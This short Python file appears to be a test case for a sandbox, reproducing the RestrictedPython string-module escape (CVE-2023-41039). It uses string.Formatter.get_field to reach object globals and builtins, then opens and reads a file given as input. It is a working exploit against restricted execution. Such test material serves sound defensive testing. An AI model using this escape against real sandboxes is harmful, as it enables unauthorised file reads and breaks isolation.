# Tries: a real object by string.Formatter.get_field, which reads format paths and gives what it found, not its text.
# Origin: CVE-2023-41039 (RestrictedPython: the string module).

import string


class Row:
    def __init__(self):
        pass


space, _ = string.Formatter().get_field("0.__init__.__globals__", (Row(),), {})
builtins = space["__builtins__"]
(builtins["open"] if isinstance(builtins, dict) else builtins.open)(input["file"]).read()
